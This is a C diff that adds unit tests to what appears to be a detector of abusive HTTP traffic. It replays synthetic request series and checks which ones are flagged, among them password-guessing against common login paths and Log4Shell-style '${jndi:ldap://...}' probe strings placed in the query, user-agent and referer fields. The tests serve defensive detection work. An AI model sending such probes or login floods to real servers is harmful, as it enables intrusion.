@@ -231,6 +231,128 @@ static void pollers_crawlers_and_checks_are_not(void **state)
 	noted(c, NULL);
 }
 
+/* One client, `count` requests, `per_s` a second, with their number for each #. */
+struct series {
+	const char *vector;
+	int count, per_s;
+	enum request_method method;
+	int status;
+	const char *path, *query, *agent, *referer;
+	enum request_protocol protocol;
+};
+
+static void numbered(char *dst, size_t size, const char *text, unsigned n)
+{
+	const char *mark = strchr(text, '#');
+	int before = (int)(mark != NULL ? (size_t)(mark - text) : strlen(text));
+
+	if (mark != NULL)
+		snprintf(dst, size, "%.*s%u%s", before, text, n, mark + 1);
+	else
+		snprintf(dst, size, "%s", text);
+}
+
+static void play(struct conduct *c, const struct series *s)
+{
+	char path[64], query[64], agent[96];
+	for (int i = 0; i < s->count; i++) {
+		unsigned n = (unsigned)i * 2654435761U >> 8;
+		struct request r = {.family = 4, .client = {7}, .bytes = 100};
+		r.at = wall_s(1700000000 + (s->per_s > 0 ? i / s->per_s : i * -s->per_s));
+		r.method = (uint8_t)s->method;
+		r.status = (uint16_t)s->status;
+		r.protocol = (uint8_t)s->protocol;
+		numbered(path, sizeof(path), s->path, n);
+		numbered(query, sizeof(query), s->query != NULL ? s->query : "", n);
+		numbered(agent, sizeof(agent), s->agent != NULL ? s->agent : browser, n);
+		r.path = span(path);
+		r.query = span(query);
+		r.agent = span(agent);
+		r.referer = span(s->referer);
+		conduct_see(c, &r);
+	}
+}
+
+#define GET REQUEST_GET
+#define POST REQUEST_POST
+
+/* What a few dozen lines show. per_s < 0: seconds between two. */
+static void little_is_enough_where_it_is_clear(void **state)
+{
+	(void)state;
+	static const struct series all[] = {
+		/* an agent of its own each time; a version that there is not; made-up queries */
+		{"http.get", 30, 30, GET, 200, "/", .agent = "Mozilla/5.0 (X#) Firefox/1.0"},
+		{"http.get", 60, 2, GET, 200, "/", .agent = "curl/#"},
+		{"http.get", 12, 12, GET, 200, "/", .protocol = REQUEST_ODD},
+		{"http.get", 20, 2, GET, 400, "/", .agent = "curl/8", .protocol = REQUEST_ODD},
+		{"http.cachebust", 30, 30, GET, 200, "/", "#"},
+		{"http.cachebust", 80, 2, GET, 200, "/", "k#=1"},
+		/* passwords: faster than people type, or for long */
+		{"http.login", 6, 1, POST, 200, "/wp-login.php"},
+		{"http.login", 30, -2, POST, 200, "/user/login"},
+		{"http.login", 30, -2, POST, 303, "/index.php/login"},
+		{"http.login", 30, -2, POST, 302, "/owa/auth.owa", .agent = ""},
+		{"http.login", 20, -1, POST, 401, "/private/form"},
+		{"http.login", 30, 1, GET, 401, "/manager/html"},
+		{"http.login", 30, -2, POST, 200, "/x.php", "controller=AdminLogin"},
+		/* searches */
+		{"http.probe", 2, 1, GET, 200, "/", "x=${jndi:ldap://#}"},
+		{"http.probe", 2, 1, GET, 200, "/", .agent = "${jndi:ldap://a.example/a}"},
+		{"http.probe", 2, 1, GET, 200, "/", .referer = "${jndi:ldap://a.example/a}"},
+		{"http.probe", 6, 1, GET, 301, "/", "author=#"},
+		{"http.probe", 3, 1, GET, 200, "/", .agent = "dirsearch"},
+	};
+	for (size_t i = 0; i < WD_COUNT(all); i++) {
+		struct conduct *c = fresh();
+		play(c, &all[i]);
+		if (c->note_count == 0)
+			fail_msg("%zu: %s %s is not noted", i, all[i].path, all[i].vector);
+		noted(c, all[i].vector);
+	}
+}
+
+/* The same things as they are done by those who mean no harm. */
+static void programs_that_fetch_much_are_not_noted(void **state)
+{
+	(void)state;
+	static const struct series all[] = {
+		{NULL, 400, 10, GET, 200, "/simple/x#/", .agent = "pip/23.0"},
+		{NULL, 400, 10, GET, 200, "/live/s#.ts"},
+		{NULL, 400, 10, GET, 200, "/Packages/a#.rpm", .agent = "x/1"},
+		{NULL, 400, 10, GET, 207, "/dav/x#", .agent = "Mozilla/5.0 (Linux) mirall/3.4"},
+		{NULL, 900, 1, GET, 200, "/poll", "_=#"},
+		{NULL, 600, 1, GET, 401, "/api/me", .agent = "okhttp/4.9"},
+		{NULL, 600, 1, POST, 401, "/events", .agent = "okhttp/4.9"},
+		{NULL, 600, -5, POST, 200, "/oauth/token", .agent = "okhttp/4.9"},
+		{NULL, 5, -2, POST, 401, "/login"},
+		{NULL, 60, 1, GET, 200, "/s", "author=#", .referer = "https://a.example/"},
+	};
+	for (size_t i = 0; i < WD_COUNT(all); i++) {
+		struct conduct *c = fresh();
+		play(c, &all[i]);
+		if (c->note_count > 0)
+			fail_msg("%zu: %s is noted", i, all[i].path);
+		noted(c, NULL);
+	}
+	/* Refused first and let in then, each time: how some programs sign in. */
+	struct conduct *c = fresh();
+	for (int i = 0; i < 800; i++)
+		see(c, (struct ask){.s = i / 4, .client = 7, .method = POST,
+				    .status = i % 2 ? 200 : 401, .path = "/EWS/Exchange.asmx",
+				    .agent = "Microsoft Office/16.0"});
+	noted(c, NULL);
+	/* A crowd behind one address: some agents are common. */
+	c = fresh();
+	for (unsigned i = 0; i < 400; i++) {
+		char agent[64];
+		unsigned n = i * 2654435761U >> 16 & 1023;
+		snprintf(agent, sizeof(agent), "Mozilla/5.0 (%u)", n * n / 8192);
+		see(c, (struct ask){.s = i, .client = 7, .status = 200, .path = "/", .agent = agent});
+	}
+	noted(c, NULL);
+}
+
 /* Whatever comes, in whatever order of time. */
 static void strangers_do_no_harm(void **state)
 {
@@ -395,6 +517,8 @@ int main(void)
 		cmocka_unit_test(services_share_a_table),
 		cmocka_unit_test(pollers_crawlers_and_checks_are_not),
 		cmocka_unit_test(strangers_do_no_harm),
+		cmocka_unit_test(little_is_enough_where_it_is_clear),
+		cmocka_unit_test(programs_that_fetch_much_are_not_noted),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
